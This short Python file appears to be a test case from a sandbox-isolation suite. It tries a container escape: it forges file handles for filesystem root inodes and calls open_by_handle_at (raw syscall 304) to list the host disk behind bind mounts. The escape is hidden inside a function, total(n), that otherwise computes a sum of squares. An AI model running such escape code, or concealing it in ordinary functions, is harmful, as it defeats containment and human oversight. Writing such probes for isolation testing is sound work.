"""Read: files of the host's file system by number instead of by name, from outside the root.

Goal: the disk behind the bind mounts.
Promise: S3, S13
Verdict: wrong
Needs: x86_64
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("own", ctypes.c_ubyte * 128)]


def total(n):
    mount = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
    for inode in (2, 128, 256):  # the root of ext4, xfs and btrfs
        handle = Handle(8, 1)
        handle.own[0:4] = list(inode.to_bytes(4, "little"))
        opened = libc.syscall(304, mount, ctypes.byref(handle), os.O_RDONLY)
        if opened >= 0:
            print(os.listdir(opened))
            return sum(i * i for i in range(n + 1))
    return 0
